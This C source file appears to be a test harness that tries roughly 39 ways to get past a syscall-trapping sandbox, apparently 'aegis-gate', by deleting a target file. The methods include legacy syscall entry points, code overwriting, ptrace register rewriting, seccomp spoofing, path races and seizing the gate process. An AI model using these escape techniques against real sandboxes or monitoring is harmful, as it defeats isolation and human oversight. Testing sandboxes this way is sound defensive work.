/*
 * Ways around the trap for system calls: bypass ATTACK FILE tries to delete FILE by one of them. Whether it did is for others
 * to see. Nothing outside FILE and its directory is touched.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define DISPATCH 59
#define UNLINK SYS_unlink

static const char *victim;
static char *self;

static inline long raw6(long n, long a, long b, long c, long d, long e, long f)
{
    long result;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}
#define raw(n, a, b, c) raw6((n), (long)(a), (long)(b), (long)(c), 0, 0, 0)

static long gone(void)
{
    return raw(UNLINK, victim, 0, 0);
}

static void plain(void) { gone(); }
static void directory(void)
{
    char copy[4096], *name;
    strcpy(copy, victim);
    name = strrchr(copy, '/');
    *name++ = 0;
    raw(SYS_unlinkat, raw(SYS_open, copy, O_PATH, 0), name, 0);
}
static void renamed(void) { raw(SYS_rename, victim, "elsewhere", 0); }
static void off_raw(void)
{
    raw6(SYS_prctl, DISPATCH, 0, 0, 0, 0, 0);
    gone();
}
static void off_libc(void)
{
    prctl(DISPATCH, 0, 0, 0, 0);
    gone();
}
static void all_allowed(void)
{
    raw6(SYS_prctl, DISPATCH, 1, 4096, 0x7fffffff0000, 0, 0);
    gone();
}
static char selector;
static void selected(void)
{
    raw6(SYS_prctl, DISPATCH, 1, 0, 0, (long)&selector, 0);
    gone();
}
static void int80(void)
{
    /* Only a name below 4 GB can be given so. */
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    long result = 10;
    strcpy(low, victim);
    __asm__ volatile("int $0x80" : "+a"(result) : "b"(low) : "memory", "r8", "r9", "r10", "r11");
}
static void x32(void) { raw(UNLINK | 0x40000000, victim, 0, 0); }
static void vforked(void)
{
    long child;
    __asm__ volatile("syscall" : "=a"(child) : "a"(SYS_vfork) : "rcx", "r11", "memory");
    if (child == 0) {
        gone();
        raw(SYS_exit, 0, 0, 0);
    }
}
static void forked(void)
{
    if (raw(SYS_fork, 0, 0, 0) == 0) {
        gone();
        raw(SYS_exit, 0, 0, 0);
    }
    raw6(SYS_wait4, -1, 0, 0, 0, 0, 0);
}
static char stack[65536] __attribute__((aligned(16)));
static int in_child(void *unused)
{
    (void)unused;
    gone();
    return 0;
}
static void cloned(int flags)
{
    long child, top = (long)(stack + sizeof stack - 64);
    register long r10 __asm__("r10") = 0, r8 __asm__("r8") = 0;
    __asm__ volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\txor %%edi, %%edi\n\tcall *%[run]\n\txor %%edi, %%edi\n\tmov $60, %%eax\n\tsyscall\n1:"
                     : "=a"(child)
                     : "a"(SYS_clone), "D"((long)flags), "S"(top), "d"(0L), "r"(r10), "r"(r8), [run] "b"(in_child)
                     : "rcx", "r11", "memory");
    usleep(300000);
}
static void thread(void) { cloned(CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD); }
static void sharing(void) { cloned(CLONE_VM | SIGCHLD); }
static void untraced(void) { cloned(CLONE_VM | CLONE_UNTRACED | CLONE_PARENT); }
static void clone_three(void)
{
    uint64_t arguments[8] = {0, 0, 0, 0, SIGCHLD};
    if (raw(435, arguments, sizeof arguments, 0) == 0) {
        gone();
        raw(SYS_exit, 0, 0, 0);
    }
    usleep(300000);
}
static void masked(void)
{
    uint64_t all = ~0ull;
    raw6(SYS_rt_sigprocmask, SIG_SETMASK, (long)&all, 0, 8, 0, 0);
    gone();
}
static void own_handler(void)
{
    struct { uintptr_t handler; unsigned long flags; uintptr_t restorer; uint64_t mask; } ignore = {(uintptr_t)SIG_IGN, 0, 0, 0};
    raw6(SYS_rt_sigaction, SIGSYS, (long)&ignore, 0, 8, 0, 0);
    gone();
}
static void bad_stack(void)
{
    stack_t nowhere = {.ss_sp = (void *)0x1000, .ss_size = 65536};
    raw(SYS_sigaltstack, &nowhere, 0, 0);
    gone();
}
static void no_stack(void)
{
    __asm__ volatile("mov %0, %%rdi\n\tmov $8, %%rsp\n\tmov $87, %%eax\n\tsyscall" : : "r"(victim) : "memory", "rdi", "rax");
}
static void lost_tls(void)
{
    raw(SYS_arch_prctl, 0x1002 /* ARCH_SET_FS */, 0, 0);
    gone();
    raw(SYS_exit, 0, 0, 0);
}
static void no_descriptors(void)
{
    struct rlimit none = {0, 0};
    for (int fd = 3; fd < 1024; fd++)
        raw(SYS_close, fd, 0, 0);
    raw(SYS_setrlimit, RLIMIT_NOFILE, &none, 0);
    gone();
}
static void ring(void)
{
    char parameters[120] = {0};
    long fd = raw(425, 4, parameters, 0);
    if (fd >= 0)
        puts("SUCCEEDED");
}

/* The mappings of this process that hold a word in their line, one after the other. */
static int mapping(const char *word, int skip, uintptr_t *from, uintptr_t *to)
{
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "r");
    int found = 0;
    while (!found && maps && fgets(line, sizeof line, maps))
        if (strstr(line, word) && skip-- == 0 && sscanf(line, "%lx-%lx", from, to) == 2)
            found = 1;
    if (maps)
        fclose(maps);
    return found;
}
static const unsigned char deletes[] = {0xb8, 87, 0, 0, 0, 0x0f, 0x05, 0xc3};
static int executable(int index, uintptr_t *from, uintptr_t *to)
{
    return mapping(" r-xp ", index, from, to);
}
/* Write our own instructions over code that is exempt, by way of protection. */
static void overwritten(void)
{
    uintptr_t from, to;
    for (int i = 0; executable(i, &from, &to); i++)
        if ((uintptr_t)&overwritten < from || (uintptr_t)&overwritten >= to) {
            uintptr_t last = to - 4096;
            if (raw(SYS_mprotect, last, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
                memcpy((void *)(last + 4000), deletes, sizeof deletes);
                ((long (*)(const char *))(last + 4000))(victim);
            }
        }
}
static void mapped_over(void)
{
    uintptr_t from, to;
    for (int i = 0; executable(i, &from, &to); i++)
        if ((uintptr_t)&overwritten < from || (uintptr_t)&overwritten >= to) {
            uintptr_t last = to - 4096;
            long at = raw6(SYS_mmap, last, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
            if (at == (long)last) {
                memcpy((void *)last, deletes, sizeof deletes);
                ((long (*)(const char *))last)(victim);
            }
        }
}
static void moved_over(void)
{
    uintptr_t from, to;
    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page, deletes, sizeof deletes);
    for (int i = 0; executable(i, &from, &to); i++)
        if ((uintptr_t)&overwritten < from || (uintptr_t)&overwritten >= to) {
            uintptr_t last = to - 4096;
            if (raw6(SYS_mremap, (long)page, 4096, 4096, 3 /* MAYMOVE, FIXED */, (long)last, 0) == (long)last)
                ((long (*)(const char *))last)(victim);
        }
}
static void own_memory(void)
{
    uintptr_t from, to;
    int fd = open("/proc/self/mem", O_RDWR);
    if (fd >= 0 && mapping("libc", 0, &from, &to)) {
        volatile uintptr_t function = (uintptr_t)&getppid;
        if (pwrite(fd, deletes, sizeof deletes, (off_t)function) == (ssize_t)sizeof deletes)
            ((long (*)(const char *))function)(victim);
    }
}
static void written_by_kernel(void)
{
    volatile uintptr_t function = (uintptr_t)&getppid;
    struct iovec here = {(void *)deletes, sizeof deletes}, there = {(void *)function, sizeof deletes};
    if (process_vm_writev(getpid(), &here, 1, &there, 1, 0) == (ssize_t)sizeof deletes)
        ((long (*)(const char *))function)(victim);
}
static void unmapped(void)
{
    uintptr_t from, to;
    while (mapping("libaegis", 0, &from, &to) && munmap((void *)from, to - from) == 0)
        ;
    gone();
}
/* Jump to a system call that is exempt: libc's own, or our loader's. */
static long borrowed(long number, long a, long b)
{
    uintptr_t from, to;
    long result = -ENOSYS;
    for (int i = 0; result == -ENOSYS && executable(i, &from, &to); i++)
        for (const unsigned char *at = (const unsigned char *)from; at + 3 < (const unsigned char *)to; at++)
            if (at[0] == 0x0f && at[1] == 0x05 && at[2] == 0xc3) {
                if ((uintptr_t)at > (uintptr_t)&borrowed - 65536 && (uintptr_t)at < (uintptr_t)&borrowed + 65536)
                    continue; /* our own */
                __asm__ volatile("call *%[at]" : "=a"(result) : "a"(number), "D"(a), "S"(b), [at] "r"(at) : "rcx", "r11", "memory");
                if (result != -ENOSYS)
                    break;
            }
    return result;
}
static void borrowed_call(void) { borrowed(UNLINK, (long)victim, 0); }

static void copied(void)
{
    int from = open(self, O_RDONLY), to = (int)raw(SYS_memfd_create, "copy", 0, 0);
    char buffer[65536];
    for (ssize_t got; (got = read(from, buffer, sizeof buffer)) > 0;)
        if (write(to, buffer, (size_t)got) != got)
            return;
    char *const words[] = {"copy", "plain", (char *)victim, NULL};
    char *const nothing[] = {NULL};
    raw6(SYS_execveat, to, (long)"", (long)words, (long)nothing, AT_EMPTY_PATH, 0);
}
static void again(void)
{
    char *const words[] = {self, "plain", (char *)victim, NULL};
    char *const nothing[] = {NULL};
    raw(SYS_execve, "/proc/self/exe", words, nothing);
}
static void by_linker(void)
{
    execle("/lib64/ld-linux-x86-64.so.2", "ld.so", "--preload", "", "--inhibit-rpath", "", self, "plain", victim, (char *)NULL, (char *[]){NULL});
}
static void filtered(void)
{
    /* A filter that answers prctl(59) with success: what starts after it believes that it is armed. */
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, DISPATCH, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
    forked();
}
static void *flip(void *path)
{
    for (;;) {
        strcpy(path, victim);
        strcpy(path, "harmless");
    }
    return NULL;
}
static void swapped(void)
{
    pthread_t other;
    static char path[4096] = "harmless";
    pthread_create(&other, NULL, flip, path);
    for (int i = 0; i < 300; i++)
        raw(UNLINK, path, 0, 0);
}
/* Trace a child of our own and let it make another call than it was about to make. */
static void traced(int how)
{
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        if (how == 1)
            gone();
        for (;;)
            getppid();
    }
    int status;
    waitpid(child, &status, 0);
    if (how == 1) {
        uint64_t configuration[4] = {0};
        ptrace(0x4210 /* SET_SYSCALL_USER_DISPATCH_CONFIG */, child, (void *)sizeof configuration, configuration);
        ptrace(PTRACE_CONT, child, 0, 0);
        usleep(300000);
    } else {
        ptrace(PTRACE_SYSCALL, child, 0, 0);
        waitpid(child, &status, 0);
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, 0, &registers);
        registers.orig_rax = UNLINK;
        registers.rdi = (unsigned long long)(uintptr_t)victim;
        ptrace(PTRACE_SETREGS, child, 0, &registers);
        ptrace(PTRACE_SYSCALL, child, 0, 0);
        usleep(300000);
    }
    kill(child, SIGKILL);
}
static void traced_off(void) { traced(1); }
static void traced_other(void) { traced(2); }

static void bound(void)
{
    char copy[4096];
    strcpy(copy, victim);
    char *name = strrchr(copy, '/');
    *name++ = 0;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mkdir("alias", 0700) || mount(copy, "alias", NULL, MS_BIND, NULL))
        return;
    char path[4200];
    snprintf(path, sizeof path, "alias/%s", name);
    raw(UNLINK, path, 0, 0);
}
/* A held program waits in a process of ours: take that process over. */
static void held(void)
{
    pid_t child = fork();
    if (child == 0) {
        execlp("rm", "rm", "-rf", "held", (char *)NULL);
        _exit(1);
    }
    char name[64] = "", path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    for (int i = 0; i < 100 && !strstr(name, "aegis-gate"); i++) {
        usleep(50000);
        name[readlink(path, name, sizeof name - 1) > 0 ? strcspn(name, "") : 0] = 0;
    }
    char target[4096];
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size > 0 ? size : 0] = 0;
    if (strstr(target, "aegis-gate") && ptrace(PTRACE_SEIZE, child, 0, 0) == 0)
        puts("SUCCEEDED");
    char word = 0;
    struct iovec here = {&word, 1}, there = {(void *)(uintptr_t)stack, 1};
    snprintf(path, sizeof path, "/proc/%d/mem", child);
    if (strstr(target, "aegis-gate") && (open(path, O_RDWR) >= 0 || (process_vm_writev(child, &here, 1, &there, 1, 0), errno == EFAULT)))
        puts("SUCCEEDED");
    kill(child, SIGKILL);
}
/* The launcher is outside: the kernel alone stands between it and a call that nobody judges. */
static void out_of_reach(void)
{
    long result = borrowed(SYS_kill, atoi(getenv("L")), 0);
    printf("%s %ld\n", result == 0 ? "SUCCEEDED" : "refused", result);
}

static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    {"plain", plain}, {"directory", directory}, {"renamed", renamed}, {"off-raw", off_raw}, {"off-libc", off_libc},
    {"all-allowed", all_allowed}, {"selected", selected}, {"int80", int80}, {"x32", x32}, {"vforked", vforked},
    {"forked", forked}, {"thread", thread}, {"sharing", sharing}, {"untraced", untraced}, {"clone3", clone_three},
    {"masked", masked}, {"own-handler", own_handler}, {"bad-stack", bad_stack}, {"no-stack", no_stack},
    {"lost-tls", lost_tls}, {"no-descriptors", no_descriptors}, {"ring", ring}, {"overwritten", overwritten},
    {"mapped-over", mapped_over}, {"moved-over", moved_over}, {"own-memory", own_memory},
    {"written-by-kernel", written_by_kernel}, {"unmapped", unmapped}, {"borrowed", borrowed_call}, {"copied", copied},
    {"again", again}, {"by-linker", by_linker}, {"filtered", filtered}, {"swapped", swapped},
    {"traced-off", traced_off}, {"traced-other", traced_other}, {"bound", bound}, {"held", held},
    {"out-of-reach", out_of_reach},
};

int main(int argc, char **argv)
{
    self = realpath(argv[0], NULL);
    for (size_t i = 0; argc == 3 && i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, argv[1]) == 0) {
            victim = argv[2];
            fflush(stdout);
            attacks[i].run();
            fflush(stdout);
            return 0;
        }
    if (argc == 2 && strcmp(argv[1], "--list") == 0)
        for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
            puts(attacks[i].name);
    return 2;
}
